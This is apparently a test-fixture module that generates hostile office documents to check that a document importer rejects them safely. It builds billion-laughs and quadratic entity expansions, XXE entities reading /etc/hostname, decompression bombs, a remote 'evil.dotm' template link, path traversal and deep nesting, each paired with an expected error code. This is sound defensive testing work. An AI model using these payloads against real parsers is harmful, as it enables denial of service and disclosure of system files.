"""Hostile Word and OpenDocument files."""

from __future__ import annotations

import itertools
import zlib

from hostile_files.made import ARTICLE, LONG, cut, hostile, noise, page, zipped

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OPEN = "urn:oasis:names:tc:opendocument:xmlns"
SPACES = f'xmlns:office="{OPEN}:office:1.0" xmlns:text="{OPEN}:text:1.0" xmlns:table="{OPEN}:table:1.0"'
EXCEL = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
POINT = f'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{OFFICE}"'
SHAPE = f"<p:sp><p:txBody><a:p><a:r><a:t>{LONG}</a:t></a:r></a:p></p:txBody></p:sp>"
ROW = f'<row><c t="inlineStr"><is><t>{LONG}</t></is></c><c><v>1</v></c></row>'
P = f"<w:p><w:r><w:t>{LONG}</w:t></w:r></w:p>"
T = f"<text:p>{LONG}</text:p>"
DAMAGED, UNSAFE, LARGE = "import-damaged", "import-unsafe", "import-unpacks-too-large"
OUTSIDE = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]>'


def laughs(root: str) -> str:
    """Return entities that would unfold to billions of letters."""
    names = [chr(code) for code in range(ord("a"), ord("m"))]
    inner = [f'<!ENTITY {names[0]} "{"ha" * 10}">']
    inner += [f'<!ENTITY {later} "{f"&{earlier};" * 10}">' for earlier, later in itertools.pairwise(names)]
    return f"<!DOCTYPE {root} [{''.join(inner)}]>"


def word(body: str, before: str = "", parts: dict[str, str] | None = None, relations: str = "") -> bytes:
    """Return a Word document of the XML of its body."""
    root = f'<Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/>'
    related = "".join(
        f'<Relationship Id="r-{kind}" Type="{OFFICE}/{kind}" Target="{kind}.xml"/>' for kind in parts or {}
    )
    return zipped(
        {
            "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"/>',
            "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships">{root}</Relationships>',
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">{related}{relations}</Relationships>',
            "word/document.xml": f'{before}<w:document xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:body>{body}</w:body></w:document>',
            **{f"word/{kind}.xml": xml for kind, xml in (parts or {}).items()},
        }
    )


def odt(body: str, before: str = "") -> bytes:
    """Return an OpenDocument text of the XML of its body."""
    inner = f"<office:body><office:text>{body}</office:text></office:body>"
    return zipped(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": f"{before}<office:document-content {SPACES}>{inner}</office:document-content>",
        }
    )


def slides(shape: str, count: int = 1) -> bytes:
    """Return a presentation of equal slides."""
    ids = "".join(f'<p:sldId r:id="s{number}"/>' for number in range(count))
    files = _office_files(
        "ppt/presentation.xml", f"<p:presentation {POINT}><p:sldIdLst>{ids}</p:sldIdLst></p:presentation>"
    )
    related = "".join(
        f'<Relationship Id="s{number}" Type="{OFFICE}/slide" Target="slides/slide{number}.xml"/>'
        for number in range(count)
    )
    files["ppt/_rels/presentation.xml.rels"] = (
        f'<Relationships xmlns="{PACKAGE}/relationships">{related}</Relationships>'
    )
    for number in range(count):
        files[f"ppt/slides/slide{number}.xml"] = (
            f"<p:sld {POINT}><p:cSld><p:spTree>{shape}</p:spTree></p:cSld></p:sld>"
        )
    return zipped(files)


def sheet(rows: str, before: str = "", strings: str = "") -> bytes:
    """Return a workbook of the XML of the rows of its sheet."""
    book = f'<workbook xmlns="{EXCEL}" xmlns:r="{OFFICE}"><sheets><sheet name="One" r:id="r1"/></sheets></workbook>'
    files = _office_files("xl/workbook.xml", book)
    related = (
        f'<Relationship Id="r1" Type="{OFFICE}/worksheet" Target="sheet1.xml"/>'
        f'<Relationship Id="r2" Type="{OFFICE}/sharedStrings" Target="strings.xml"/>'
        f'<Relationship Id="r3" Type="{OFFICE}/externalLink" Target="http://192.0.2.1/a.xlsx" TargetMode="External"/>'
    )
    files["xl/_rels/workbook.xml.rels"] = (
        f'<Relationships xmlns="{PACKAGE}/relationships">{related}</Relationships>'
    )
    files["xl/strings.xml"] = f'<sst xmlns="{EXCEL}">{strings}</sst>'
    files["xl/sheet1.xml"] = f'{before}<worksheet xmlns="{EXCEL}"><sheetData>{rows}</sheetData></worksheet>'
    return zipped(files)


def _office_files(main: str, xml: str) -> dict[str, bytes | str]:
    root = f'<Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="{main}"/>'
    return {
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"/>',
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships">{root}</Relationships>',
        main: xml,
    }


def _picture_bomb() -> bytes:
    """Return a PNG of a few bytes that claims to have a billion pixels."""
    head = b"IHDR" + (40_000).to_bytes(4, "big") * 2 + b"\x08\x00\x00\x00\x00"
    data = b"IDAT" + zlib.compress(bytes(1000))
    chunks = (
        len(part[4:]).to_bytes(4, "big") + part + zlib.crc32(part).to_bytes(4, "big")
        for part in (head, data, b"IEND")
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def _styles() -> bytes:
    style = '<w:style w:type="paragraph" w:styleId="{}"><w:name w:val="{}"/><w:basedOn w:val="{}"/></w:style>'
    loop = style.format("A", "a", "B") + style.format("B", "b", "A")
    chain = "".join(style.format(f"S{n}", f"s{n}", f"S{n + 1}") for n in range(20_000))
    styles = f'<w:styles xmlns:w="{WORD}">{loop}{chain}</w:styles>'
    body = "".join(
        f'<w:p><w:pPr><w:pStyle w:val="{name}"/></w:pPr><w:r><w:t>{LONG} {name}</w:t></w:r></w:p>'
        for name in ("A", "S0", "B", "S7")
    )
    return word(body, parts={"styles": styles})


def _outside() -> bytes:
    relations = "".join(
        f'<Relationship Id="o{n}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        for n, (kind, target, mode) in enumerate(
            (
                ("attachedTemplate", "http://192.0.2.1/evil.dotm", "External"),
                ("image", "http://192.0.2.1/a.png", "External"),
                ("styles", "file:///etc/hostname", "External"),
                ("numbering", "../../../../etc/hostname", "Internal"),
            )
        )
    )
    return word(P, relations=relations)


def _numbers() -> bytes:
    level = '<w:p><w:pPr><w:numPr><w:ilvl w:val="{0}"/><w:numId w:val="{0}"/></w:numPr></w:pPr><w:r><w:t>item</w:t></w:r></w:p>'
    spans = '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="{0}"/></w:tcPr>' + P + "</w:tc></w:tr></w:tbl>"
    huge = ("999999999", "-999999999", "9" * 5000, "x")
    return word(P + "".join(level.format(number) + spans.format(number) for number in huge))


def _repeated() -> bytes:
    cell = f'<table:table-cell table:number-columns-repeated="1000000" table:number-columns-spanned="999999999">{T}</table:table-cell>'
    return odt(
        f'{T}<table:table><table:table-row table:number-rows-repeated="1000000">{cell}</table:table-row></table:table>'
    )


FILES = (
    hostile("laughs.docx", lambda: word(f"<w:p><w:r><w:t>&l;</w:t></w:r></w:p>{P}", laughs("w:document")), UNSAFE, DAMAGED),
    hostile("entity-from-outside.docx", lambda: word(f"<w:p><w:r><w:t>&x;</w:t></w:r></w:p>{P}", OUTSIDE), UNSAFE),
    hostile("quadratic.docx", lambda: word("<w:p><w:r><w:t>" + "&x;" * 50_000 + "</w:t></w:r></w:p>", f'<!DOCTYPE d [<!ENTITY x "{"a" * 50_000}">]>'), UNSAFE, DAMAGED),
    hostile("bomb.docx", lambda: word(f"<w:p><w:r><w:t>{'a' * 300_000_000}</w:t></w:r></w:p>"), LARGE, quick=False),
    hostile("tags-20-million.docx", lambda: word("<w:p/>" * 20_000_000), LARGE, quick=False),
    hostile("tags-under-the-limit.docx", lambda: word(P + "<w:p><w:r/></w:p>" * 900_000), ARTICLE, LARGE, "import-too-many-paragraphs", quick=False),
    hostile("paragraphs-under-the-limit.docx", lambda: word("<w:p><w:r><w:t>word</w:t></w:r></w:p>" * 59_000), ARTICLE, "import-too-many-paragraphs", quick=False),
    hostile("tables-2000-deep.docx", lambda: word("<w:tbl><w:tr><w:tc>" * 2000 + P + "</w:tc></w:tr></w:tbl>" * 2000), DAMAGED, ARTICLE),
    hostile("tables-60-deep-and-wide.docx", lambda: word(("<w:tbl><w:tr>" + f"<w:tc>{P}</w:tc>" * 8 + "<w:tc>") * 60 + P + "</w:tc></w:tr></w:tbl>" * 60), ARTICLE, DAMAGED),
    hostile("styles-in-a-circle.docx", _styles, ARTICLE),
    hostile("parts-from-outside.docx", _outside, ARTICLE, DAMAGED),
    hostile("numbers-out-of-range.docx", _numbers, ARTICLE),
    hostile("cut.docx", lambda: cut(word(P * 500 + noise(3000).hex())), DAMAGED),
    hostile("page.docx", lambda: page(f"<h1>Gases</h1><p>{LONG}</p>"), ARTICLE),
    hostile("word.txt", lambda: word(P), ARTICLE),
    hostile("picture.docx", lambda: b"\x89PNG\r\n\x1a\n" + noise(5000), "import-picture", "import-picture-damaged"),
    hostile("bomb.png", _picture_bomb, "import-picture", "import-picture-damaged", "import-too-large"),
    hostile("noise.doc", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + noise(5000) + "WordDocument".encode("utf-16-le") + bytes(40), "import-old-office", "outside-program-failed", "import-no-text", ARTICLE),
    hostile("sheet.docx", lambda: zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}), DAMAGED, "import-no-document", "import-format-not-read", "import-no-text"),
    hostile("encrypted.docx", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(1000) + "EncryptedPackage".encode("utf-16-le"), "import-encrypted"),
    hostile("slides-10000.pptx", lambda: slides(SHAPE, 10_000), "import-too-many-slides", LARGE),
    hostile("slides-1400.pptx", lambda: slides(SHAPE, 1400), ARTICLE, quick=False),
    hostile("groups-100-deep.pptx", lambda: slides("<p:grpSp>" * 100 + SHAPE + "</p:grpSp>" * 100), ARTICLE),
    hostile("shapes-20000.pptx", lambda: slides(SHAPE * 20_000), ARTICLE),
    hostile("bomb.pptx", lambda: slides(f"<p:sp><p:txBody><a:p><a:r><a:t>{'a' * 300_000_000}</a:t></a:r></a:p></p:txBody></p:sp>"), LARGE, quick=False),
    hostile("entity-from-outside.xlsx", lambda: sheet(ROW, OUTSIDE), UNSAFE),
    hostile("laughs.xlsx", lambda: sheet(ROW + "<row><c><v>&l;</v></c></row>", laughs("worksheet")), UNSAFE, DAMAGED),
    hostile("columns-16384.xlsx", lambda: sheet(ROW + f"<row>{'<c><v>1</v></c>' * 16_384}</row>" * 50), ARTICLE, notice="table-cut"),
    hostile("rows-1-million.xlsx", lambda: sheet("".join(f"<row><c><v>{n * 7919 % 1_000_003}</v></c></row>" for n in range(1_048_576)) + ROW), ARTICLE, LARGE, quick=False),
    hostile("bomb.xlsx", lambda: sheet(f"<row><c><v>{'1' * 300_000_000}</v></c></row>"), LARGE, quick=False),
    hostile("strings-2-million.xlsx", lambda: sheet(ROW + '<row><c t="s"><v>1999999</v></c></row>', strings="".join(f"<si><t>{n * 7919 % 1_000_003}</t></si>" for n in range(2_000_000))), ARTICLE, LARGE, quick=False),
    hostile("formats-odd.xlsx", lambda: sheet(ROW + '<row><c s="999999999"><v>1e400</v></c><c><v>nan</v></c><c t="s"><v>99999999999</v></c></row>'), ARTICLE),
    hostile("cells-repeated.odt", _repeated, ARTICLE),
    hostile("spaces-repeated.odt", lambda: odt(T + '<text:p>a<text:s text:c="999999999"/>b<text:tab/><text:s text:c="x"/></text:p>' * 500), ARTICLE),
    hostile("lists-3000-deep.odt", lambda: odt(T + "<text:list><text:list-item>" * 3000 + T + "</text:list-item></text:list>" * 3000), ARTICLE, DAMAGED),
    hostile("laughs.odt", lambda: odt("<text:p>&l;</text:p>" + T, laughs("office:document-content")), UNSAFE, DAMAGED),
    hostile("entity-from-outside.odt", lambda: odt("<text:p>&x;</text:p>" + T, OUTSIDE), UNSAFE),
    hostile("cut.odt", lambda: cut(odt(T * 300 + noise(3000).hex())), DAMAGED),
)  # fmt: skip
